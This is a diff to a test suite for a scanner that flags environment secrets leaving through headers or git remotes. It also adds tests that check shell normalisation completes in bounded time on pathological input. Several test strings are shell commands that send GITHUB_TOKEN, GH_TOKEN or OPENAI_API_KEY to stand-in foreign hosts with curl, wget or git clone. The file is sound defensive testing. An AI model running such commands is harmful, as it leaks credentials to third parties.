@@ -212,6 +212,16 @@ describe("one env secret leaving through a header, a DNS name or a git remote", 
       "sh",
       'git clone "https://x:${GH_TOKEN}@code-mirror.click/org/repo"\n',
     ],
+    [
+      "curl -H with a vendor token to a foreign host",
+      "sh",
+      'curl -fsS -H "x-client: $GITHUB_TOKEN" https://labelsync-usage.click/v1\n',
+    ],
+    [
+      "wget --header with a vendor token",
+      "sh",
+      'wget -qO- --header="Authorization: Bearer ${OPENAI_API_KEY}" https://llm-mirror.click/v1\n',
+    ],
   ];
   it.each(stolen)("%s → MALICIOUS", async (_n, ext, code) => {
     const s = await run(ext, code);
@@ -261,6 +271,11 @@ describe("one env secret leaving through a header, a DNS name or a git remote", 
       'const dns = require("dns");\ndns.resolve4("registry.npmjs.org", () => {});\n',
     ],
     [
+      "curl -H with the token to its own API",
+      "sh",
+      'curl -fsS -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com/user\ncurl -u "$NPM_TOKEN:" https://registry.npmjs.org/-/whoami\n',
+    ],
+    [
       "actions/checkout's clone",
       "sh",
       'git clone "https://x-access-token:${GITHUB_TOKEN}@github.com/org/repo"\ngit push "https://x-access-token:${GITHUB_TOKEN}@github.com/org/repo" HEAD\n',
@@ -275,5 +290,19 @@ describe("one env secret leaving through a header, a DNS name or a git remote", 
     const s = await run(ext, code);
     expect(sent(s)).toBeUndefined();
     expect(s.findings.filter((f) => f.ruleId === "script.flow-secret-to-network")).toEqual([]);
+  });
+});
+
+describe("hostile shell text costs a bounded pass", () => {
+  it.each([
+    ["unclosed ${ everywhere", "${".repeat(200_000)],
+    ["brace words that never close", " {a,b".repeat(80_000)],
+    ["continuations", "a\\\n".repeat(150_000)],
+    ["ANSI-C strings", "$'\\x41' ".repeat(50_000)],
+  ])("%s", (_n, src) => {
+    const start = performance.now();
+    const n = normaliseShell(src);
+    expect(performance.now() - start).toBeLessThan(2000);
+    if (n) expect(n.text.length).toBe(src.length);
   });
 });
